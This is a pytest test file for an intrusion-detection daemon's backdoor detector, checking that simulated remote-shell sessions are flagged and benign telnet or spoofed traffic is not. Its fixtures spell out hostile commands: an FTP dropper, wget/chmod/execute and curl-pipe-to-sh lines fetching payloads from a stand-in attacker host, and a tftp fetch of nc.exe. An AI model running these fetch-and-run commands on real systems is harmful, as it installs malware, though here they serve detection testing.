"""Backdoor detector (`detector:shell`, Backdoor_Malware): a remote shell at work in a TCP
connection — a dropper's command line, `id` output, a Windows shell's banner, a botnet loader's
busybox probe — flags the two hosts once the receiver acknowledges it; a spoofed segment, a
telnet server's own banner and a downloaded script do not."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import numpy as np
import pytest

from ids_daemon.capture.decode import SHELL_BANNER, SHELL_DROPPER, SHELL_ID, shell_signature
from ids_daemon.config import DetectorsConfig, ShellDetectorConfig
from ids_daemon.detectors.publish import encode_findings
from ids_daemon.predictions import json_schema

from .paths import REAL
from .test_detectors import ATTACKER, VICTIM, C, needs_real, run, tcp_conn, write

OTHER = "192.168.1.30"
DROPPER = (b"echo open 192.168.1.66 8884 > o&echo user 1 1 >> o &echo get svc.exe >> o &echo quit >> o "
           b"&ftp -n -s:o &del /F /Q o &svc.exe\r\n")


def _classes(fc: np.ndarray) -> set[int]:
    return set(np.unique(fc).tolist())


@pytest.mark.parametrize("data, code", [
    (DROPPER, SHELL_DROPPER),
    (b"cd /tmp || cd /var/run; wget http://192.168.1.66/bins/x.arm7; chmod 777 x.arm7; ./x.arm7 telnet\r\n",
     SHELL_DROPPER),
    (b"curl -s http://192.168.1.66/i.sh | sh\n", SHELL_DROPPER),
    (b"/bin/busybox ECCHI\r\n", SHELL_DROPPER),
    (b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00' > .d\r\n", SHELL_DROPPER),
    (b"tftp -i 192.168.1.66 GET nc.exe\r\n", SHELL_DROPPER),
    (b"uid=0(root) gid=0(root) groups=0(root)\n", SHELL_ID),
    (b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Windows\\system32>",
     SHELL_BANNER),
    (b"wget http://example.com/firmware-2.1.tar.gz\r\n", 0),  # a download alone runs nothing
    (b"ls -la /tmp\r\n", 0),
    # a script's lines, downloaded whole: more than a command's few lines
    (b"wget http://x/a.tgz\nchmod +x run.sh\n./run.sh\ncurl http://x/b | sh\necho done\nexit 0\n", 0),
])
def test_signatures(data: bytes, code: int) -> None:
    assert shell_signature(data, 4444)[0] == code
    # a telnet server's banner and `id` output are its users' shell
    assert shell_signature(data, 23)[0] == (code if code == SHELL_DROPPER else 0)


def test_a_dropper_in_a_bind_shell_flags_the_two_hosts(tmp_path: Path) -> None:
    """An exploit connection to 445, the bind shell on 4444 where the attacker's command line
    fetches a program by FTP (the victim acknowledges it), the victim's FTP session back to the
    attacker: all of the two hosts' frames, and nothing of a third host's session with the victim."""
    exploit = tcp_conn(0.0, ATTACKER, VICTIM, 1821, 445, [b"\x00\x00\x00\x85\xffSMBr" + b"\x90" * 60])
    shell = tcp_conn(1.0, ATTACKER, VICTIM, 1924, 4444, [DROPPER], [b"\r\n"])
    ftp = tcp_conn(2.0, VICTIM, ATTACKER, 36296, 8884, [b"USER 1\r\n", b"RETR svc.exe\r\n"], [b"331 ok\n", b"150 ok\n"])
    other = tcp_conn(1.5, OTHER, VICTIM, 40000, 80, [b"GET / HTTP/1.1\r\nHost: v\r\n\r\n"])
    b, fc, findings = run(write(tmp_path, "bind.pcap", sorted(exploit + shell + ftp + other, key=lambda p: p.time)))
    pair = np.isin(b.src4, [int.from_bytes(bytes(map(int, a.split("."))), "big") for a in (ATTACKER, VICTIM)]) & \
        np.isin(b.dst4, [int.from_bytes(bytes(map(int, a.split("."))), "big") for a in (ATTACKER, VICTIM)])
    assert pair.sum() == len(exploit) + len(shell) + len(ftp)
    assert (fc[pair] == C["Backdoor_Malware"]).all(), fc
    assert (fc[~pair] == -1).all()
    assert {(f.detector, f.cls, f.attacker, f.victim) for f in findings} == {("shell", "Backdoor_Malware", ATTACKER,
                                                                             VICTIM)}
    assert "fetches and runs a program" in findings[0].evidence
    rec = json.loads(encode_findings(findings, sensor="s", id_prefix="x", first_id=0, now=1.0, interface=None).values[0])
    jsonschema.validate(rec, json_schema())
    assert rec["model"]["name"] == "detector:shell" and rec["predicted_attack"] == "Backdoor_Malware" and rec["is_attack"]


def test_a_reverse_shell_names_its_controller(tmp_path: Path) -> None:
    """The victim connects out to the attacker's port 443 and sends what `id` printed; the
    attacker acknowledges it: the attacker is the receiver."""
    rev = tcp_conn(0.0, VICTIM, ATTACKER, 50000, 443, [b"uid=0(root) gid=0(root) groups=0(root)\n"], [b"uname -a\n"])
    _, fc, findings = run(write(tmp_path, "rev.pcap", rev))
    assert (fc == C["Backdoor_Malware"]).all()
    assert [(f.attacker, f.victim) for f in findings] == [(ATTACKER, VICTIM)]


def test_a_botnet_loader_on_telnet(tmp_path: Path) -> None:
    """A Mirai-style loader, logged in on telnet, probes busybox for an applet that does not exist."""
    s = tcp_conn(0.0, ATTACKER, VICTIM, 51000, 23, [b"enable\r\n", b"system\r\n", b"sh\r\n", b"/bin/busybox ECCHI\r\n"],
                 [b"\r\n", b"\r\n", b"# ", b"ECCHI: applet not found\r\n"])
    _, fc, findings = run(write(tmp_path, "loader.pcap", s))
    assert (fc == C["Backdoor_Malware"]).all()
    assert [(f.attacker, f.victim) for f in findings] == [(ATTACKER, VICTIM)]


@pytest.mark.parametrize("answer", ["duplicate ACK", "none"])
def test_a_spoofed_segment_names_nobody(tmp_path: Path, answer: str) -> None:
    """The dropper's line "from" a host the victim talks to, in a segment the victim never
    acknowledges: its ACKs stay where they were (a blind spoofer's segment is out of window), or
    it says nothing. Nothing is flagged, the benign session included; acknowledged, it would be."""
    pkts = tcp_conn(0.0, OTHER, VICTIM, 40000, 80, [b"GET / HTTP/1.1\r\nHost: v\r\n\r\n"])
    shell = tcp_conn(0.5, OTHER, VICTIM, 41000, 4444, [DROPPER], [b"\r\n"])
    seg = next(p for p in shell if p.haslayer("Raw") and p["IP"].src == OTHER)
    spoof = []
    for p in shell:
        if p["IP"].src == VICTIM and p.time > seg.time:
            if answer == "none":
                continue
            p = p.copy()
            p["TCP"].ack = seg["TCP"].seq  # the bytes before the segment, not its own
        spoof.append(p)
    _, fc, findings = run(write(tmp_path, "spoof.pcap", sorted(pkts + spoof, key=lambda p: p.time)))
    assert (fc == -1).all() and not findings
    _, fc, _ = run(write(tmp_path, "acked.pcap", sorted(pkts + shell, key=lambda p: p.time)))
    assert (fc >= 0).sum() == len(pkts) + len(shell)


def test_a_telnet_servers_banner_is_no_backdoor_and_the_detector_can_be_off(tmp_path: Path) -> None:
    """A user's telnet session to a Windows server: the banner and `id` come from port 23."""
    s = tcp_conn(0.0, OTHER, VICTIM, 40001, 23, [b"id\r\n"],
                 [b"Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\>"])
    s += tcp_conn(1.0, OTHER, VICTIM, 40002, 23, [b"id\r\n"], [b"uid=1000(pi) gid=1000(pi) groups=1000(pi)\n"])
    _, fc, findings = run(write(tmp_path, "telnet.pcap", sorted(s, key=lambda p: p.time)))
    assert (fc == -1).all() and not findings
    shell = tcp_conn(0.0, ATTACKER, VICTIM, 1924, 4444, [DROPPER], [b"\r\n"])
    path = write(tmp_path, "off.pcap", shell)
    assert _classes(run(path)[1]) == {C["Backdoor_Malware"]}
    assert _classes(run(path, DetectorsConfig(shell=ShellDetectorConfig(enabled=False)))[1]) == {-1}


def test_state_is_bounded() -> None:
    """Unacknowledged matching segments from many connections: the pending table keeps its cap."""
    from ids_daemon.capture.batch import PacketBatch
    from ids_daemon.detectors.shell import ShellDetector

    n = 20000
    b = PacketBatch.empty(n)
    b.ts[:] = 1_700_000_000.0 + np.arange(n) * 1e-5
    b.ip_version[:] = 4
    b.proto[:] = 6
    b.l4_ok[:] = True
    b.src4[:] = 0x0A000000 + np.arange(n)
    b.dst4[:] = 0x0A640001
    b.sport[:] = 1024 + np.arange(n) % 60000
    b.dport[:] = 4444
    b.tcp_flags[:] = 0x18
    b.ip_hdr_len[:] = 20
    b.l4_hdr_len[:] = 20
    b.ip_len[:] = 100
    b.shell_sig[:] = SHELL_DROPPER
    det = ShellDetector()
    assert det.process(b, np.full(n, -1, np.int16)) == []
    assert len(det.pending) <= 4096 and det.counters["pending_evictions"] >= n - 4096


@needs_real
def test_real_exploit_and_dropper() -> None:
    """HoneyNet's attack-trace: an SMB exploit, a bind shell running an FTP script, the download."""
    _, fc, findings = run(REAL / "attack/Backdoor_Malware/markofu_pcaps__HoneyNet_attack-trace.pcap")
    assert (fc == C["Backdoor_Malware"]).mean() >= 0.95
    assert {f.cls for f in findings} == {"Backdoor_Malware"}
